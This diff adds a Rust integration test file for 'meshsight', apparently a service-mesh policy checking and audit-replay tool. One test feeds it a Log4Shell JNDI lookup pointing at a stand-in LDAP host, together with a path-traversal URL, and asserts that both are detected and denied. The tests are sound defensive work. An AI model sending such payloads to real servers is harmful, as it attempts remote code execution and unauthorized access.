@@ -1,0 +1,314 @@
+//! Each command of the `meshsight` binary on the fixtures in `cli/fixtures/` (generated mesh
+//! traffic as the audit sink writes it, OCSF and ECS, and bad files): output, exit status and
+//! the file:line:field of every input error.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+
+fn fixture(name: &str) -> String {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("fixtures")
+        .join(name)
+        .display()
+        .to_string()
+}
+
+fn meshsight(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_meshsight"))
+        .args(args)
+        .output()
+        .expect("the binary runs")
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn temp(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("meshsight-cli-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    dir.join(name)
+}
+
+#[test]
+fn every_command_has_help() {
+    for cmd in ["check", "explain", "replay", "learn", "istio", "generate"] {
+        let o = meshsight(&[cmd, "--help"]);
+        assert!(o.status.success(), "{cmd}");
+        assert!(
+            stdout(&o).contains("Usage: meshsight"),
+            "{cmd}: {}",
+            stdout(&o)
+        );
+    }
+}
+
+#[test]
+fn check_passes_a_good_policy_and_names_never_hit_rules() {
+    let o = meshsight(&[
+        "check",
+        &fixture("one_pass.json"),
+        "--records",
+        &fixture("mesh.ocsf.ndjson"),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let out = stdout(&o);
+    assert!(
+        out.contains("allowlist.rules[3] (legacy): no request of the 300 recorded hit this rule"),
+        "{out}"
+    );
+    assert!(
+        out.contains("allowlist.rules[1] (products): overlaps allowlist.rules[0]"),
+        "{out}"
+    );
+    assert!(!out.contains("(health): no request"), "{out}");
+    let o = meshsight(&["check", &fixture("one_pass.json"), "--deny-warnings"]);
+    assert_eq!(o.status.code(), Some(1));
+}
+
+#[test]
+fn check_refuses_a_bad_policy_with_its_json_path() {
+    let bad = temp("bad.json");
+    std::fs::write(
+        &bad,
+        r#"{"allowlist": {"rules": [{"name": "a", "methods": ["get"]}]}}"#,
+    )
+    .unwrap();
+    let o = meshsight(&["check", bad.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(
+        stderr(&o).contains("allowlist.rules[0].methods[0]: "),
+        "{}",
+        stderr(&o)
+    );
+    // A single job's policy, by role.
+    let allow = temp("allow.json");
+    std::fs::write(
+        &allow,
+        r#"{"rules": [{"name": "a", "paths": ["/a/**"]}, {"name": "b", "paths": ["/a/b"]}]}"#,
+    )
+    .unwrap();
+    let o = meshsight(&["check", allow.to_str().unwrap(), "--role", "allowlist"]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(
+        stdout(&o).contains("warning: rules[1] (b): can never match"),
+        "{}",
+        stdout(&o)
+    );
+}
+
+#[test]
+fn explain_shows_every_decision_of_the_one_pass() {
+    let o = meshsight(&[
+        "explain",
+        &fixture("one_pass.json"),
+        "GET /api/v1/products/../../admin",
+        "--host",
+        "catalog.shop.svc.cluster.local",
+        "-H",
+        "user-agent: ${jndi:ldap://203.0.113.5/a}",
+        "--json",
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(v["normalized"]["path"], "/api/admin");
+    assert_eq!(v["allowlist"]["decision"]["outcome"], "denied");
+    assert_eq!(v["allowlist"]["response_status"], 403);
+    assert!(
+        v["signatures"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!("log4shell")),
+        "{v}"
+    );
+    assert_eq!(v["mirror"]["mirrored"], true);
+    assert_eq!(v["audit"]["record"]["class_uid"], 4002);
+    assert_eq!(v["audit"]["record"]["is_alert"], true);
+    assert_eq!(v["status"], 403);
+
+    // Raw HTTP on standard input; an mTLS peer from `web` is allowed by the first rule.
+    let mut child = Command::new(env!("CARGO_BIN_EXE_meshsight"))
+        .args([
+            "explain",
+            &fixture("one_pass.json"),
+            "--principal",
+            "spiffe://cluster.local/ns/web/sa/frontend",
+        ])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(
+            b"GET /api/v1/./categories HTTP/1.1\r\nHost: catalog.shop.svc.cluster.local\r\n\r\n",
+        )
+        .unwrap();
+    let o = child.wait_with_output().unwrap();
+    let out = stdout(&o);
+    assert!(
+        out.contains("normalized: /api/v1/categories  host catalog.shop.svc.cluster.local"),
+        "{out}"
+    );
+    assert!(
+        out.contains("allowlist:  allowed by rule catalog-read"),
+        "{out}"
+    );
+}
+
+#[test]
+fn replay_reports_changes_and_fails_on_a_regression() {
+    // Records written with a monitor allowlist: nothing was allowed, so no regression.
+    let o = meshsight(&[
+        "replay",
+        &fixture("one_pass.json"),
+        &fixture("mesh.ocsf.ndjson"),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(
+        stdout(&o).contains("300 records replayed"),
+        "{}",
+        stdout(&o)
+    );
+    // Learn from them, then replay against a stricter policy: allowed -> denied fails.
+    let learned = meshsight(&["learn", &fixture("mesh.ocsf.ndjson"), "--one-pass"]);
+    assert!(learned.status.success(), "{}", stderr(&learned));
+    let policy = temp("learned.json");
+    std::fs::write(&policy, &learned.stdout).unwrap();
+    let rec = temp("allowed.ndjson");
+    // A request as if the learned policy had enforced: the record says allowed.
+    let e = meshsight(&[
+        "explain",
+        policy.to_str().unwrap(),
+        "GET /healthz",
+        "--host",
+        "cart.shop.svc.cluster.local",
+        "--json",
+    ]);
+    let v: serde_json::Value = serde_json::from_slice(&e.stdout).unwrap();
+    assert_eq!(v["allowlist"]["decision"]["outcome"], "allowed");
+    let lines = format!("{}\n", v["audit"]["record"]);
+    std::fs::write(&rec, &lines).unwrap();
+    let strict = temp("strict.json");
+    std::fs::write(
+        &strict,
+        r#"{"rules": [{"name": "only", "paths": ["/only"]}]}"#,
+    )
+    .unwrap();
+    let o = meshsight(&["replay", strict.to_str().unwrap(), rec.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains("allowed -> denied: 1"),
+        "{}",
+        stdout(&o)
+    );
+    assert!(
+        stdout(&o).contains(
+            "allowed.ndjson:1: GET cart.shop.svc.cluster.local/healthz allowed -> denied"
+        ),
+        "{}",
+        stdout(&o)
+    );
+}
+
+#[test]
+fn ecs_records_replay_like_ocsf() {
+    let o = meshsight(&[
+        "replay",
+        &fixture("one_pass.json"),
+        &fixture("mesh.ecs.ndjson"),
+        "--json",
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(v["records"], 100);
+    assert!(v["rule_hits"][0][1].as_u64().unwrap() > 0, "{v}");
+}
+
+#[test]
+fn bad_records_name_file_line_and_field() {
+    let cases = [
+        ("empty.ndjson", "empty.ndjson: the file is empty"),
+        (
+            "bad_json.ndjson",
+            "bad_json.ndjson:4: (line): malformed JSON at column",
+        ),
+        (
+            "other_class.ndjson",
+            "other_class.ndjson:3: class_uid: a record of OCSF class 4001",
+        ),
+        (
+            "missing_field.ndjson",
+            "missing_field.ndjson:2: http_request.url.path: missing field",
+        ),
+    ];
+    for (file, want) in cases {
+        let o = meshsight(&["replay", &fixture("one_pass.json"), &fixture(file)]);
+        assert_eq!(o.status.code(), Some(2), "{file}");
+        assert!(stderr(&o).contains(want), "{file}: {}", stderr(&o));
+    }
+    // --skip-bad counts and reports them instead.
+    let o = meshsight(&[
+        "replay",
+        &fixture("one_pass.json"),
+        &fixture("bad_json.ndjson"),
+        "--skip-bad",
+    ]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(stdout(&o).contains("5 records replayed"), "{}", stdout(&o));
+    assert!(
+        stderr(&o).contains("skipped 1 bad line(s) (--skip-bad):"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(
+        stderr(&o).contains("bad_json.ndjson:4: (line): malformed JSON"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn learn_proposes_a_policy_that_passes_check_and_replays_clean() {
+    let o = meshsight(&["learn", &fixture("mesh.ocsf.ndjson")]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let policy = temp("proposal.json");
+    std::fs::write(&policy, &o.stdout).unwrap();
+    let c = meshsight(&["check", policy.to_str().unwrap()]);
+    assert_eq!(c.status.code(), Some(0), "{}{}", stdout(&c), stderr(&c));
+    let r = meshsight(&[
+        "replay",
+        policy.to_str().unwrap(),
+        &fixture("mesh.ocsf.ndjson"),
+        "--json",
+    ]);
+    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
+    assert_eq!(v["regressions"], 0);
+    assert!(stderr(&o).contains("not learned:"), "{}", stderr(&o));
+}
+
+#[test]
+fn istio_renders_a_wasmplugin() {
+    let o = meshsight(&[
+        "istio",
+        &fixture("one_pass.json"),
+        "--namespace",
+        "shop",
+        "--selector",
+        "app=catalog",
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let y = stdout(&o);
+    assert!(y.contains("kind: WasmPlugin\n"), "{y}");
+    assert!(y.contains("  pluginName: meshsight\n"), "{y}");
+    assert!(y.contains("      app: catalog\n"), "{y}");
+    assert!(y.contains("  failStrategy: FAIL_CLOSE\n"), "{y}");
+}
